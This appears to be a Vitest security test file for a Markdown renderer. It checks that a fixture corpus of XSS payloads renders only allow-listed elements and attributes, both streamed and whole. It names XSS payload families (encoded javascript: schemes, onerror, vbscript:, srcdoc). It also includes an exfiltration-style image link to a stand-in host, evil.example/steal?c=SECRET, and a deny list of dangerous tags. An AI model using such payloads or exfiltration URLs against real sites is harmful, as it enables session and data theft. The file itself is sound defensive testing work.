// @vitest-environment happy-dom
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { xssCorpus } from '../fixtures/xss-corpus.js';
import { mount, streamer } from './render-md.js';

// Everything the renderer may create, and the attributes each may carry. Anything else fails.
const ALLOWED: Record<string, string[]> = {
  DIV: ['class'],
  P: [],
  H3: ['class'],
  H4: ['class'],
  H5: ['class'],
  H6: ['class'],
  EM: [],
  STRONG: [],
  DEL: [],
  CODE: ['data-lang'],
  PRE: ['tabindex'], // ours: a scrolling code block is reachable by keyboard
  BR: [],
  HR: [],
  UL: [],
  OL: ['start'],
  LI: [],
  BLOCKQUOTE: [],
  TABLE: [],
  THEAD: [],
  TBODY: [],
  TR: [],
  TH: ['class'],
  TD: ['class'],
  SPAN: ['class'],
  BUTTON: ['type', 'class', 'aria-live'],
  A: ['href', 'title', 'target', 'rel', 'class'],
  IMG: ['src', 'alt', 'title', 'loading', 'referrerpolicy'],
};

/** Asserts the rendered tree is safe; `images` says whether <img> may appear. */
function assertSafe(root: Element, images: boolean, label: string): void {
  for (const el of Array.from(root.querySelectorAll('*'))) {
    const where = `${label}: <${el.tagName.toLowerCase()}>`;
    expect(ALLOWED[el.tagName], `${where} is not an element the renderer makes`).toBeDefined();
    for (const { name } of Array.from(el.attributes)) {
      expect(name.startsWith('on'), `${where} has ${name}`).toBe(false);
      expect(ALLOWED[el.tagName], `${where} has ${name}`).toContain(name);
    }
    if (el.tagName === 'A') {
      expect(['http:', 'https:', 'mailto:'], `${where} href=${el.getAttribute('href')}`).toContain(new URL(el.getAttribute('href')!).protocol);
      expect(el.getAttribute('target')).toBe('_blank');
      expect(el.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    }
    if (el.tagName === 'IMG') {
      expect(images, `${where} without allowImages`).toBe(true);
      expect(['http:', 'https:'], `${where} src=${el.getAttribute('src')}`).toContain(new URL(el.getAttribute('src')!).protocol);
    }
    if (el.tagName === 'BUTTON') expect(el.className).toBe('ac-copy');
  }
  expect(root.querySelectorAll('script, iframe, style, form, svg, math, object, embed, base, meta, link, input, template')).toHaveLength(0);
}

const alert = vi.fn();
beforeAll(() => {
  vi.stubGlobal('alert', alert);
});
afterAll(() => {
  expect(alert).not.toHaveBeenCalled();
  vi.unstubAllGlobals();
});

describe('XSS corpus', () => {
  test('has the payload families the issue lists', () => {
    expect(xssCorpus.length).toBeGreaterThanOrEqual(60);
    for (const needle of ['onerror', '&#106;avascript', '&#x6A;', '%6Aavascript', 'JaVaScRiPt', 'java\tscript', '\u0000', 'data:text/html', 'vbscript:', '<svg>', '<math>', 'srcdoc', '@import', '<form', 'steal?c='])
      expect(xssCorpus.some((p) => p.includes(needle)), needle).toBe(true);
  });

  test.each(xssCorpus.map((p) => [p]))('%j renders safely, streaming or not, with images off or on', (payload) => {
    for (const allowImages of [false, true]) {
      assertSafe(mount(payload, { allowImages }), allowImages, 'history');
      // Streamed one character at a time: every intermediate, lenient render must be safe too.
      const s = streamer({ allowImages });
      for (let k = 1; k <= payload.length; k++) {
        s.update(payload.slice(0, k));
        assertSafe(s.div, allowImages, `streamed ${JSON.stringify(payload.slice(0, k))}`);
      }
      s.update(payload, false);
      assertSafe(s.div, allowImages, 'stream end');
    }
  });

  test('raw HTML payloads are visible as text', () => {
    const raw = xssCorpus.filter((p) => p.startsWith('<') && !/^<[a-z]+:/i.test(p) && !/[&*_`\\[~\n]/.test(p));
    expect(raw.length).toBeGreaterThan(25);
    for (const p of raw) expect(mount(p).textContent).toBe(p);
  });

  test('images are not loaded by default: the exfiltration URL is only a link', () => {
    const div = mount('![a](https://evil.example/steal?c=SECRET)');
    expect(div.querySelector('img')).toBeNull();
    expect(div.querySelector('a')!.getAttribute('href')).toBe('https://evil.example/steal?c=SECRET');
  });

  test('disallowed Markdown links keep their text and lose the link', () => {
    for (const p of xssCorpus.filter((x) => /^\[x\]\((?!https)/.test(x))) {
      const div = mount(p);
      expect(div.querySelector('a'), p).toBeNull();
      expect(div.textContent, p).toContain('x');
    }
  });
});
